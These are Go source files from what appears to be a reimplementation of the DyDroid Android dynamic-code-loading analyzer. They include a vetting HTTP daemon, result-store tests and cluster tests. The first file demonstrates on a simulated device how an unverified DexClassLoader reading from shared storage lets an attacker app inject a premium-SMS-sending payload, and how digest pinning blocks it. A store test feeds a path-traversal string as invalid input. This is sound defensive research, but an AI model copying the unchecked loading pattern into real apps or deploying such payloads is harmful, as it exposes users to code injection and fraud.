// Securedcl demonstrates the Table IX code-injection attack end to end
// and the mitigation the paper points to (Falsina et al.'s Grab'n Run):
//
//  1. A victim app caches loadable bytecode on world-writable external
//     storage (the com.longtukorea.snmg pattern) and loads it with a
//     plain DexClassLoader — no integrity check.
//  2. An attacker app holding only the SD-card write permission replaces
//     the file. The victim now executes attacker code with every
//     permission the victim holds.
//  3. The same victim using a digest-pinning SecureDexClassLoader refuses
//     the tampered file.
package main

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"log"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/monkey"
	"github.com/dydroid/dydroid/internal/vm"
)

const jarPath = android.ExternalRoot + "im_sdk/jar/voice.jar"

func payload(evil bool) []byte {
	b := dex.NewBuilder()
	m := b.Class("com.voice.Sdk", "java.lang.Object").Method("boot", dex.ACCPublic, 4, "V")
	if evil {
		m.NewInstance(1, "android.telephony.SmsManager").
			ConstString(2, "+premium900").
			ConstString(3, "SUBSCRIBE").
			InvokeVirtual(dex.MethodRef{Class: "android.telephony.SmsManager",
				Name: "sendTextMessage", Sig: "(Ljava/lang/String;Ljava/lang/String;)V"}, 1, 2, 3)
	}
	m.ReturnVoid().Done()
	data, err := dex.Encode(b.File())
	if err != nil {
		log.Fatal(err)
	}
	return data
}

func victim(pkg, pinnedDigest string) *apk.APK {
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 8, "V", "Landroid/os/Bundle;")
	m.ConstString(1, jarPath).
		ConstString(2, android.InternalDir(pkg)+"odex")
	if pinnedDigest == "" {
		m.NewInstance(3, "dalvik.system.DexClassLoader").
			InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
				Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
				3, 1, 2, 0, 0)
	} else {
		m.NewInstance(3, vm.SecureLoaderClass).
			ConstString(4, pinnedDigest).
			InvokeDirect(dex.MethodRef{Class: vm.SecureLoaderClass, Name: "<init>",
				Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;Ljava/lang/String;)V"},
				3, 1, 2, 0, 0, 4)
	}
	m.NewInstance(5, "com.voice.Sdk").
		InvokeVirtual(dex.MethodRef{Class: "com.voice.Sdk", Name: "boot", Sig: "()V"}, 5).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		log.Fatal(err)
	}
	return &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Permissions: []apk.UsesPerm{
				{Name: apk.WriteExternalStorage},
				{Name: "android.permission.SEND_SMS"},
			},
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
}

func run(title string, app *apk.APK, plant []byte) {
	fmt.Printf("== %s ==\n", title)
	dev := android.NewDevice() // API 18: external storage world-writable
	// The attacker — a different package, no special permissions needed
	// before KitKat — plants its file first.
	if err := dev.Storage.WriteFile(jarPath, plant, "com.evil.flashlight", false); err != nil {
		log.Fatal(err)
	}
	installed, err := dev.Packages.Install(app)
	if err != nil {
		log.Fatal(err)
	}
	m, err := vm.New(dev, nil, installed, nil, nil)
	if err != nil {
		log.Fatal(err)
	}
	res := monkey.Exercise(m, 5, 1)
	fmt.Printf("  victim run: %s", res.Outcome)
	if res.Err != nil {
		fmt.Printf(" (%v)", res.Err)
	}
	fmt.Println()
	for _, ev := range m.Events() {
		fmt.Printf("  !! attacker code executed as victim: %s %s %q\n", ev.Kind, ev.Detail, ev.Data)
	}
	if len(m.Events()) == 0 {
		fmt.Println("  no attacker behaviour observed")
	}
	fmt.Println()
}

func main() {
	benign := payload(false)
	evil := payload(true)
	sum := sha256.Sum256(benign)
	digest := hex.EncodeToString(sum[:])

	run("vulnerable loader, legitimate file", victim("com.victim.a", ""), benign)
	run("vulnerable loader, ATTACKER file", victim("com.victim.b", ""), evil)
	run("secure loader (pinned digest), ATTACKER file", victim("com.victim.c", digest), evil)
	fmt.Println("one app with only the SD-card write permission misbehaves with all")
	fmt.Println("the permissions of the vulnerable app (paper §V-B-e); digest pinning")
	fmt.Println("(Grab'n Run) closes the hole without giving up DCL.")
}
