package main

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/service"
)

func TestPrintResultRendersFindings(t *testing.T) {
	st, err := corpus.Generate(corpus.Config{Seed: 3, Scale: 0.001})
	if err != nil {
		t.Fatal(err)
	}
	clf, err := st.TrainingSet(1)
	if err != nil {
		t.Fatal(err)
	}
	an := core.NewAnalyzer(core.Options{
		Seed: 3, Classifier: clf, Network: st.Network, SetupDevice: st.SetupDevice,
	})
	// Pick the chathook sample: it exercises every report section.
	for _, app := range st.Apps {
		if app.Spec.MalwareFamily != "chathook" {
			continue
		}
		data, err := st.BuildAPK(app)
		if err != nil {
			t.Fatal(err)
		}
		res, err := an.AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		var out strings.Builder
		printResult(&out, "chathook.apk", res)
		for _, want := range []string{
			"== chathook.apk", "status: exercised", "DCL native",
			"MALWARE native: Chathook ptrace", "runtime event: root",
			"runtime event: ptrace",
		} {
			if !strings.Contains(out.String(), want) {
				t.Fatalf("report missing %q:\n%s", want, out.String())
			}
		}
		return
	}
	t.Fatal("no chathook app in the store")
}

func TestPrintJSONEmitsServiceRecord(t *testing.T) {
	st, err := corpus.Generate(corpus.Config{Seed: 3, Scale: 0.001})
	if err != nil {
		t.Fatal(err)
	}
	clf, err := st.TrainingSet(1)
	if err != nil {
		t.Fatal(err)
	}
	an := core.NewAnalyzer(core.Options{
		Seed: 3, Classifier: clf, Network: st.Network, SetupDevice: st.SetupDevice,
	})
	for _, app := range st.Apps {
		if app.Spec.MalwareFamily != "chathook" {
			continue
		}
		data, err := st.BuildAPK(app)
		if err != nil {
			t.Fatal(err)
		}
		res, err := an.AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		var out strings.Builder
		if err := printJSON(&out, data, res); err != nil {
			t.Fatal(err)
		}
		line := strings.TrimSuffix(out.String(), "\n")
		if strings.Contains(line, "\n") {
			t.Fatal("record spans multiple lines")
		}
		var rec service.Record
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("output is not a service record: %v\n%s", err, line)
		}
		digest, err := apk.SigningDigest(data)
		if err != nil {
			t.Fatal(err)
		}
		if rec.Digest != digest || rec.Status != "exercised" || len(rec.Malware) == 0 {
			t.Fatalf("record = %+v", rec)
		}
		// Byte-identical to the record the daemon would serve (no review).
		want, err := service.NewRecord(digest, res, nil).Marshal()
		if err != nil {
			t.Fatal(err)
		}
		if line != string(want) {
			t.Fatalf("json output differs from service record:\n got: %s\nwant: %s", line, want)
		}
		return
	}
	t.Fatal("no chathook app in the store")
}
