// Package service is the online vetting daemon: an HTTP front over the
// DyDroid pipeline (core.Analyzer) and the marketplace review
// (bouncer.Reviewer), backed by the content-addressed result store. It is
// the store-operator deployment shape of the paper's measurement —
// submissions are deduplicated by APK signing digest, analyzed once by a
// bounded worker pool, and every verdict is served from cache thereafter.
//
// Endpoints:
//
//	POST /v1/scan            submit APK bytes; 200 + cached verdict,
//	                         or 202 + job id (the digest), or 429 when
//	                         the queue is full
//	GET  /v1/result/{digest} fetch a verdict; 202 while in flight
//	GET  /v1/healthz         liveness + queue occupancy
//	GET  /v1/metricz         text rendering of the metrics registry
package service

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"sync"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/bouncer"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/resultstore"
)

// Config assembles a Server.
type Config struct {
	// Analyzer runs the DyDroid pipeline on each submission (required).
	Analyzer *core.Analyzer
	// Reviewer, when non-nil, runs the store-side Bouncer review before
	// the pipeline; its verdict travels in the served record.
	Reviewer *bouncer.Reviewer
	// Store persists verdicts across restarts. Nil keeps them in memory
	// only (development mode).
	Store *resultstore.Store
	// Workers is the analysis parallelism (default GOMAXPROCS).
	Workers int
	// QueueDepth bounds the submission queue; full queues answer 429
	// (default 64).
	QueueDepth int
	// Metrics receives service counters and job timings; the analyzer and
	// reviewer keep their own wiring. Optional.
	Metrics *metrics.Registry
	// MaxBodyBytes bounds one submission (default 64 MiB).
	MaxBodyBytes int64
}

// Server is the vetting daemon. Create with New, mount Handler on an
// http.Server, and call Shutdown to drain.
type Server struct {
	cfg Config
	reg *metrics.Registry

	jobs chan *job
	wg   sync.WaitGroup

	mu       sync.Mutex
	closed   bool
	inflight map[string]*job
	// results is the verdict authority when no Store is configured;
	// failed pins pipeline errors so GETs can distinguish "analysis
	// failed" from "never seen".
	results map[string]json.RawMessage
	failed  map[string]string

	// analyze is the per-submission work function; tests replace it to
	// block workers or inject failures.
	analyze func(digest string, data []byte) (*Record, error)
}

type job struct {
	digest string
	data   []byte
}

// New validates the config and starts the worker pool.
func New(cfg Config) (*Server, error) {
	if cfg.Analyzer == nil {
		return nil, errors.New("service: Config.Analyzer is required")
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.QueueDepth <= 0 {
		cfg.QueueDepth = 64
	}
	if cfg.MaxBodyBytes <= 0 {
		cfg.MaxBodyBytes = 64 << 20
	}
	s := &Server{
		cfg:      cfg,
		reg:      cfg.Metrics,
		jobs:     make(chan *job, cfg.QueueDepth),
		inflight: make(map[string]*job),
		results:  make(map[string]json.RawMessage),
		failed:   make(map[string]string),
	}
	s.analyze = s.analyzeAPK
	for w := 0; w < cfg.Workers; w++ {
		s.wg.Add(1)
		go s.worker()
	}
	return s, nil
}

// Handler returns the daemon's HTTP routes.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/scan", s.handleScan)
	mux.HandleFunc("GET /v1/result/{digest}", s.handleResult)
	mux.HandleFunc("GET /v1/healthz", s.handleHealthz)
	mux.HandleFunc("GET /v1/metricz", s.handleMetricz)
	return mux
}

// Shutdown stops accepting submissions, drains every queued and in-flight
// job, and returns once the workers exit (or the context expires).
func (s *Server) Shutdown(ctx context.Context) error {
	s.mu.Lock()
	if !s.closed {
		s.closed = true
		close(s.jobs)
	}
	s.mu.Unlock()
	done := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		return fmt.Errorf("service: shutdown: %w", ctx.Err())
	}
}

// scanResponse is the body of non-cached submission answers and pending
// result polls.
type scanResponse struct {
	Digest string `json:"digest"`
	Status string `json:"status"`
	Error  string `json:"error,omitempty"`
}

func (s *Server) handleScan(w http.ResponseWriter, r *http.Request) {
	s.reg.Add("service.scan.requests", 1)
	body, err := io.ReadAll(io.LimitReader(r.Body, s.cfg.MaxBodyBytes+1))
	if err != nil {
		httpError(w, http.StatusBadRequest, "read body: "+err.Error())
		return
	}
	if int64(len(body)) > s.cfg.MaxBodyBytes {
		s.reg.Add("service.scan.invalid", 1)
		httpError(w, http.StatusRequestEntityTooLarge, "submission exceeds size limit")
		return
	}
	digest, err := apk.SigningDigest(body)
	if err != nil {
		s.reg.Add("service.scan.invalid", 1)
		httpError(w, http.StatusBadRequest, err.Error())
		return
	}

	// Fast path: an in-flight twin (singleflight) or a cached verdict.
	s.mu.Lock()
	_, pending := s.inflight[digest]
	s.mu.Unlock()
	if pending {
		s.reg.Add("service.scan.deduped", 1)
		writeJSON(w, http.StatusAccepted, scanResponse{Digest: digest, Status: "pending"})
		return
	}
	if raw, ok := s.lookup(digest); ok {
		s.reg.Add("service.scan.cached", 1)
		writeRaw(w, http.StatusOK, raw)
		return
	}

	// Slow path: enqueue, unless a twin won the race, the queue is full,
	// or the daemon is draining.
	j := &job{digest: digest, data: body}
	s.mu.Lock()
	switch {
	case s.closed:
		s.mu.Unlock()
		httpError(w, http.StatusServiceUnavailable, "shutting down")
		return
	case s.inflight[digest] != nil:
		s.mu.Unlock()
		s.reg.Add("service.scan.deduped", 1)
		writeJSON(w, http.StatusAccepted, scanResponse{Digest: digest, Status: "pending"})
		return
	}
	select {
	case s.jobs <- j:
		s.inflight[digest] = j
		delete(s.failed, digest) // a resubmission retries a failed digest
		s.mu.Unlock()
		s.reg.Add("service.scan.queued", 1)
		writeJSON(w, http.StatusAccepted, scanResponse{Digest: digest, Status: "queued"})
	default:
		s.mu.Unlock()
		s.reg.Add("service.scan.rejected", 1)
		w.Header().Set("Retry-After", "1")
		httpError(w, http.StatusTooManyRequests, "submission queue is full")
	}
}

func (s *Server) handleResult(w http.ResponseWriter, r *http.Request) {
	digest := r.PathValue("digest")
	s.mu.Lock()
	_, pending := s.inflight[digest]
	failMsg, failedOnce := s.failed[digest]
	s.mu.Unlock()
	if pending {
		writeJSON(w, http.StatusAccepted, scanResponse{Digest: digest, Status: "pending"})
		return
	}
	if raw, ok := s.lookup(digest); ok {
		writeRaw(w, http.StatusOK, raw)
		return
	}
	if failedOnce {
		writeJSON(w, http.StatusBadGateway, scanResponse{Digest: digest, Status: "failed", Error: failMsg})
		return
	}
	httpError(w, http.StatusNotFound, "unknown digest")
}

func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	closed := s.closed
	inflight := len(s.inflight)
	s.mu.Unlock()
	status := "ok"
	if closed {
		status = "draining"
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"status":      status,
		"queue_len":   len(s.jobs),
		"queue_depth": cap(s.jobs),
		"inflight":    inflight,
		"workers":     s.cfg.Workers,
	})
}

func (s *Server) handleMetricz(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	io.WriteString(w, s.reg.Snapshot().String())
	if s.cfg.Store != nil {
		st := s.cfg.Store.Stats()
		fmt.Fprintf(w, "\nresultstore\thits=%d misses=%d cache-hits=%d puts=%d stale=%d quarantined=%d\n",
			st.Hits, st.Misses, st.CacheHits, st.Puts, st.Stale, st.Quarantined)
	}
}

// lookup finds a completed verdict in the store (or the in-memory map
// when no store is configured).
func (s *Server) lookup(digest string) (json.RawMessage, bool) {
	if s.cfg.Store != nil {
		raw, err := s.cfg.Store.Get(digest)
		if err == nil {
			return raw, true
		}
		return nil, false
	}
	s.mu.Lock()
	raw, ok := s.results[digest]
	s.mu.Unlock()
	return raw, ok
}

func (s *Server) worker() {
	defer s.wg.Done()
	for j := range s.jobs {
		stop := s.reg.Time("service.job")
		rec, err := s.analyze(j.digest, j.data)
		var raw json.RawMessage
		if err == nil {
			raw, err = rec.Marshal()
		}
		if err == nil && s.cfg.Store != nil {
			err = s.cfg.Store.Put(j.digest, raw)
		}
		s.mu.Lock()
		delete(s.inflight, j.digest)
		if err != nil {
			s.failed[j.digest] = err.Error()
		} else if s.cfg.Store == nil {
			s.results[j.digest] = raw
		}
		s.mu.Unlock()
		if err != nil {
			s.reg.Add("service.analyze.errors", 1)
		} else {
			s.reg.Add("service.analyzed", 1)
		}
		stop()
	}
}

// analyzeAPK is the real work function: optional Bouncer review, then the
// full pipeline.
func (s *Server) analyzeAPK(digest string, data []byte) (*Record, error) {
	var verdict *bouncer.Verdict
	if s.cfg.Reviewer != nil {
		v, err := s.cfg.Reviewer.Review(data)
		if err != nil {
			return nil, fmt.Errorf("service: review: %w", err)
		}
		verdict = &v
	}
	res, err := s.cfg.Analyzer.AnalyzeAPK(data)
	if err != nil {
		return nil, fmt.Errorf("service: analyze: %w", err)
	}
	return NewRecord(digest, res, verdict), nil
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(v)
}

// writeRaw serves a stored verdict verbatim — the byte-identical
// contract with a fresh pipeline run.
func writeRaw(w http.ResponseWriter, code int, raw json.RawMessage) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	w.Write(raw)
}

func httpError(w http.ResponseWriter, code int, msg string) {
	writeJSON(w, code, map[string]string{"error": msg})
}
