package resultstore

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func digestOf(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

func open(t *testing.T, opts Options) *Store {
	t.Helper()
	if opts.Dir == "" {
		opts.Dir = t.TempDir()
	}
	st, err := Open(opts)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

func TestPutGetRoundTrip(t *testing.T) {
	st := open(t, Options{Version: 1})
	dg := digestOf("app-1")
	want := json.RawMessage(`{"package":"com.a","status":"exercised"}`)
	if err := st.Put(dg, want); err != nil {
		t.Fatal(err)
	}
	got, err := st.Get(dg)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != string(want) {
		t.Fatalf("got %s, want %s", got, want)
	}
	if _, err := st.Get(digestOf("absent")); !errors.Is(err, ErrNotFound) {
		t.Fatalf("absent digest: err = %v", err)
	}
	s := st.Stats()
	if s.Puts != 1 || s.Hits != 1 || s.Misses != 1 {
		t.Fatalf("stats = %+v", s)
	}
}

func TestGetSurvivesReopen(t *testing.T) {
	dir := t.TempDir()
	dg := digestOf("persist")
	st := open(t, Options{Dir: dir, Version: 2})
	if err := st.Put(dg, json.RawMessage(`{"x":1}`)); err != nil {
		t.Fatal(err)
	}
	// A reopened store (cold LRU) reads the record from disk.
	st2 := open(t, Options{Dir: dir, Version: 2})
	got, err := st2.Get(dg)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != `{"x":1}` {
		t.Fatalf("got %s", got)
	}
	if s := st2.Stats(); s.CacheHits != 0 || s.Hits != 1 {
		t.Fatalf("stats = %+v", s)
	}
}

func TestLRUFrontServesWithoutDisk(t *testing.T) {
	st := open(t, Options{Version: 1})
	dg := digestOf("cached")
	if err := st.Put(dg, json.RawMessage(`{"v":true}`)); err != nil {
		t.Fatal(err)
	}
	// Delete the backing file: the LRU front must still serve the record.
	if err := os.Remove(st.shardPath(dg)); err != nil {
		t.Fatal(err)
	}
	if _, err := st.Get(dg); err != nil {
		t.Fatal(err)
	}
	if s := st.Stats(); s.CacheHits != 1 {
		t.Fatalf("stats = %+v", s)
	}
}

func TestLRUEviction(t *testing.T) {
	st := open(t, Options{Version: 1, CacheSize: 2})
	var digests []string
	for i := 0; i < 3; i++ {
		dg := digestOf(fmt.Sprintf("app-%d", i))
		digests = append(digests, dg)
		if err := st.Put(dg, json.RawMessage(`{}`)); err != nil {
			t.Fatal(err)
		}
	}
	if n := st.lru.len(); n != 2 {
		t.Fatalf("lru len = %d, want 2", n)
	}
	if _, ok := st.lru.get(digests[0]); ok {
		t.Fatal("oldest entry not evicted")
	}
	// The evicted record is still served from disk.
	if _, err := st.Get(digests[0]); err != nil {
		t.Fatal(err)
	}
}

func TestVersionMismatchIsMiss(t *testing.T) {
	dir := t.TempDir()
	dg := digestOf("versioned")
	stOld := open(t, Options{Dir: dir, Version: 1})
	if err := stOld.Put(dg, json.RawMessage(`{"old":true}`)); err != nil {
		t.Fatal(err)
	}
	stNew := open(t, Options{Dir: dir, Version: 2})
	if _, err := stNew.Get(dg); !errors.Is(err, ErrNotFound) {
		t.Fatalf("stale record served: err = %v", err)
	}
	if s := stNew.Stats(); s.Stale != 1 {
		t.Fatalf("stats = %+v", s)
	}
	// A fresh Put overwrites the stale record in place.
	if err := stNew.Put(dg, json.RawMessage(`{"new":true}`)); err != nil {
		t.Fatal(err)
	}
	got, err := stNew.Get(dg)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != `{"new":true}` {
		t.Fatalf("got %s", got)
	}
}

func TestInvalidDigestRejected(t *testing.T) {
	st := open(t, Options{Version: 1})
	for _, bad := range []string{"", "x", "../../etc/passwd", "ABCDEF012345", "0123/456"} {
		if err := st.Put(bad, json.RawMessage(`{}`)); err == nil {
			t.Fatalf("Put(%q) accepted", bad)
		}
		if _, err := st.Get(bad); err == nil || errors.Is(err, ErrNotFound) {
			t.Fatalf("Get(%q) err = %v, want validation error", bad, err)
		}
	}
}

// TestCrashMidPutLeavesNoPartialRecord injects a write failure mid-Put
// (the crash analogue: the staged bytes never fully land) and verifies no
// record — partial or otherwise — is ever visible under the digest, and
// that the store remains fully usable afterwards.
func TestCrashMidPutLeavesNoPartialRecord(t *testing.T) {
	st := open(t, Options{Version: 1, CacheSize: -1})
	dg := digestOf("crashy")

	st.writeRecord = func(f *os.File, data []byte) error {
		// Simulate dying after half the bytes reached the kernel.
		if _, err := f.Write(data[:len(data)/2]); err != nil {
			return err
		}
		return errors.New("injected: process killed mid-write")
	}
	if err := st.Put(dg, json.RawMessage(`{"half":true}`)); err == nil {
		t.Fatal("Put succeeded despite injected failure")
	}
	if _, err := st.Get(dg); !errors.Is(err, ErrNotFound) {
		t.Fatalf("partial record visible: err = %v", err)
	}
	// No stray temp files remain in the shard directory.
	shardDir := filepath.Dir(st.shardPath(dg))
	entries, err := os.ReadDir(shardDir)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	for _, e := range entries {
		t.Fatalf("leftover file after failed Put: %s", e.Name())
	}

	// The same digest can be stored once writes heal.
	st.writeRecord = writeFileSync
	if err := st.Put(dg, json.RawMessage(`{"ok":true}`)); err != nil {
		t.Fatal(err)
	}
	got, err := st.Get(dg)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != `{"ok":true}` {
		t.Fatalf("got %s", got)
	}
}

// TestTruncatedShardFileQuarantined simulates a record truncated on disk
// (torn write from a crashed kernel, bit rot): Get must refuse to serve
// it, move it to quarantine/, and let a fresh Put repopulate the slot.
func TestTruncatedShardFileQuarantined(t *testing.T) {
	st := open(t, Options{Version: 1, CacheSize: -1})
	dg := digestOf("torn")
	if err := st.Put(dg, json.RawMessage(`{"full":"record"}`)); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(st.shardPath(dg))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(st.shardPath(dg), raw[:len(raw)/3], 0o644); err != nil {
		t.Fatal(err)
	}

	if _, err := st.Get(dg); !errors.Is(err, ErrNotFound) {
		t.Fatalf("truncated record served: err = %v", err)
	}
	if s := st.Stats(); s.Quarantined != 1 {
		t.Fatalf("stats = %+v", s)
	}
	qpath := filepath.Join(st.dir, "quarantine", dg+".json")
	if _, err := os.Stat(qpath); err != nil {
		t.Fatalf("quarantine file: %v", err)
	}
	if _, err := os.Stat(st.shardPath(dg)); !os.IsNotExist(err) {
		t.Fatal("corrupt record still in shard dir")
	}
	// Repeated Gets stay misses without double-counting quarantine.
	if _, err := st.Get(dg); !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v", err)
	}
	if err := st.Put(dg, json.RawMessage(`{"healed":true}`)); err != nil {
		t.Fatal(err)
	}
	if got, err := st.Get(dg); err != nil || string(got) != `{"healed":true}` {
		t.Fatalf("got %s, err %v", got, err)
	}
}

// TestWrongDigestRecordQuarantined covers a record whose envelope parses
// but is keyed under the wrong digest (a copy gone astray).
func TestWrongDigestRecordQuarantined(t *testing.T) {
	st := open(t, Options{Version: 1, CacheSize: -1})
	right := digestOf("right")
	wrong := digestOf("wrong")
	if err := st.Put(right, json.RawMessage(`{}`)); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(st.shardPath(right))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(st.shardPath(wrong)), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(st.shardPath(wrong), raw, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := st.Get(wrong); !errors.Is(err, ErrNotFound) {
		t.Fatalf("mis-keyed record served: err = %v", err)
	}
	if s := st.Stats(); s.Quarantined != 1 {
		t.Fatalf("stats = %+v", s)
	}
}

func TestShardLayout(t *testing.T) {
	st := open(t, Options{Version: 1})
	dg := digestOf("layout")
	if err := st.Put(dg, json.RawMessage(`{}`)); err != nil {
		t.Fatal(err)
	}
	want := filepath.Join(st.dir, "shards", dg[:2], dg+".json")
	if _, err := os.Stat(want); err != nil {
		t.Fatalf("record not at %s: %v", want, err)
	}
	if !strings.HasPrefix(filepath.Base(filepath.Dir(want)), dg[:2]) {
		t.Fatal("shard prefix mismatch")
	}
	if n, err := st.Len(); err != nil || n != 1 {
		t.Fatalf("Len = %d, %v", n, err)
	}
}

func TestConcurrentPutGet(t *testing.T) {
	st := open(t, Options{Version: 1, CacheSize: 8})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				dg := digestOf(fmt.Sprintf("app-%d", i%10))
				data := json.RawMessage(fmt.Sprintf(`{"i":%d}`, i))
				if err := st.Put(dg, data); err != nil {
					t.Error(err)
					return
				}
				if _, err := st.Get(dg); err != nil {
					t.Error(err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	if n, err := st.Len(); err != nil || n != 10 {
		t.Fatalf("Len = %d, %v", n, err)
	}
}

// TestLRUConcurrentEvictionCoherence hammers the LRU front with a working
// set far larger than its capacity: concurrent readers and writers churn
// the same keys through get/put/evict and every read must return the
// bytes written for exactly that digest (no cross-key mixups, no stale
// truncations), while the cache never exceeds its bound. Run with -race.
func TestLRUConcurrentEvictionCoherence(t *testing.T) {
	const (
		cacheCap = 4
		keys     = 32
		workers  = 8
		rounds   = 50
	)
	st := open(t, Options{Version: 1, CacheSize: cacheCap})
	valueFor := func(k int) json.RawMessage {
		return json.RawMessage(fmt.Sprintf(`{"app":%d,"pad":%q}`, k, strings.Repeat("x", k)))
	}
	for k := 0; k < keys; k++ {
		if err := st.Put(digestOf(fmt.Sprintf("churn-%d", k)), valueFor(k)); err != nil {
			t.Fatal(err)
		}
	}
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				k := (w*7 + i*13) % keys
				dg := digestOf(fmt.Sprintf("churn-%d", k))
				if i%3 == 0 {
					if err := st.Put(dg, valueFor(k)); err != nil {
						t.Error(err)
						return
					}
				}
				got, err := st.Get(dg)
				if err != nil {
					t.Error(err)
					return
				}
				if string(got) != string(valueFor(k)) {
					t.Errorf("key %d read wrong bytes: %s", k, got)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	if n := st.lru.len(); n > cacheCap {
		t.Fatalf("cache holds %d entries, cap %d", n, cacheCap)
	}
	// Disk remains complete after all the eviction churn.
	if n, err := st.Len(); err != nil || n != keys {
		t.Fatalf("Len = %d, %v, want %d", n, err, keys)
	}
	snap := st.Stats()
	if snap.CacheHits == 0 {
		t.Fatal("LRU front never served a hit under churn")
	}
	if snap.Hits != int64(workers*rounds) {
		t.Fatalf("hits = %d, want %d", snap.Hits, workers*rounds)
	}
}
