package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/cluster"
	"github.com/dydroid/dydroid/internal/telemetry"
)

// fakeWorker answers just enough of the worker surface for the
// coordinator to consider it a healthy member.
func fakeWorker(t *testing.T) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("GET /v1/healthz", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{"status": "ok", "queue_len": 0, "queue_depth": 8})
	})
	mux.HandleFunc("GET /v1/version", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{"snapshot_version": telemetry.SnapshotVersion})
	})
	ts := httptest.NewServer(mux)
	t.Cleanup(ts.Close)
	return ts
}

func TestClusterStatusCommand(t *testing.T) {
	a, b := fakeWorker(t), fakeWorker(t)
	coord, err := cluster.New(cluster.Config{
		Nodes: []string{a.URL, b.URL}, ProbeInterval: time.Hour,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(coord.Close)
	cts := httptest.NewServer(coord.Handler())
	t.Cleanup(cts.Close)

	var out strings.Builder
	if err := runCluster(&out, []string{"status", cts.URL}); err != nil {
		t.Fatal(err)
	}
	got := out.String()
	if !strings.Contains(got, "2/2 nodes live") {
		t.Fatalf("table missing live count:\n%s", got)
	}
	for _, node := range []string{a.URL, b.URL} {
		if !strings.Contains(got, strings.TrimPrefix(node, "http://")) {
			t.Fatalf("table missing node %s:\n%s", node, got)
		}
	}

	out.Reset()
	if err := runCluster(&out, []string{"status", "-json", cts.URL}); err != nil {
		t.Fatal(err)
	}
	var st cluster.StatusResponse
	if err := json.Unmarshal([]byte(out.String()), &st); err != nil {
		t.Fatalf("-json output not valid JSON: %v\n%s", err, out.String())
	}
	if st.Nodes != 2 || st.NodesLive != 2 {
		t.Fatalf("status = %+v", st)
	}

	if err := runCluster(&out, []string{"bogus"}); err == nil {
		t.Fatal("unknown verb must error")
	}
	if err := runCluster(&out, []string{"status"}); err == nil {
		t.Fatal("missing coordinator URL must error")
	}
}
