//go:build !unix

package profile

// processCPUNanos has no portable implementation off unix; attribution
// degrades to alloc-only there (CPU deltas read as 0).
func processCPUNanos() int64 { return 0 }
