package telemetry

import (
	"context"
	"runtime"
	"time"

	"github.com/dydroid/dydroid/internal/metrics"
)

// DefaultSampleInterval is the runtime sampler period.
